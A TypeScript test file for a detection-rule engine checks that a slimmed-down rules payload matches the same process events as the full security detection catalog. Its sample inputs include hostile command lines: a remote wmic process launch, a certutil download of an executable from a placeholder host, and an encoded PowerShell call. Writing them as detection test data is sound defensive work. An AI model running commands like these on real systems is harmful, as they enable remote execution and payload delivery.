import { existsSync } from "node:fs"

import { describe, expect, it } from "vitest"

import { loadCatalog } from "../catalog/load.node.ts"
import { buildProcessEvents } from "./event.ts"
import { compileCatalog, matchEvent, type MatchReport } from "./match.ts"
import { compileTesterRules, fromTesterRules, testerRules } from "./rules-data.ts"

/** Paths are dropped from the lean payload; compare everything else. */
const strip = (r: MatchReport) => JSON.parse(JSON.stringify(r, (k, v) => (k === "path" ? undefined : v))) as unknown

describe("tester rules payload", () => {
  const detections = loadCatalog().detections
  const rows = testerRules(detections)
  const full = compileCatalog(detections)
  const lean = compileTesterRules(JSON.parse(JSON.stringify(rows)))

  it("gives the same report as the full catalog", () => {
    for (const cmd of [
      'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"',
      "certutil -urlcache -f http://x/a.exe a.exe",
      "powershell -enc AAAA",
    ]) {
      const built = buildProcessEvents({ cmd, parent: "cmd.exe", user: "bob", host: "ws1" })
      expect(strip(matchEvent(lean, { built }))).toEqual(strip(matchEvent(full, { built })))
    }
  })

  it("carries every rule's compile products, read back as they were made", () => {
    const hints = (c: typeof full) => c.rules.map((r) => JSON.parse(JSON.stringify(r.hints)) as unknown)
    expect(rows.filter((r) => r.c !== undefined).length).toBe(full.rules.length)
    expect(hints(lean)).toEqual(hints(full))
  })

  it("rebuilds each combined predicate from the stage predicates exactly", () => {
    const back = fromTesterRules(JSON.parse(JSON.stringify(rows)))
    detections.forEach((d, i) => expect(back[i]!.analysis?.predicate).toEqual(d.analysis?.predicate))
  })

  it("stays lean: no rule text travels", () => {
    const json = JSON.stringify(rows)
    expect(json).not.toContain("how_to_implement")
    for (const r of rows)
      expect((r.analysis?.detail as { expanded?: string } | undefined)?.expanded?.length ?? 0).toBeLessThan(12)
  })
})

const CORPUS = "../shared/corpora/security_content"
describe.skipIf(!existsSync(CORPUS))("tester rules payload on the corpus", () => {
  it("rebuilds every combined predicate exactly", () => {
    const detections = loadCatalog({ roots: [CORPUS] }).detections
    const back = fromTesterRules(JSON.parse(JSON.stringify(testerRules(detections))))
    let checked = 0
    detections.forEach((d, i) => {
      expect(back[i]!.analysis?.predicate).toEqual(d.analysis?.predicate)
      if (d.analysis) checked++
    })
    expect(checked).toBeGreaterThan(1700)
  }, 60_000)
})
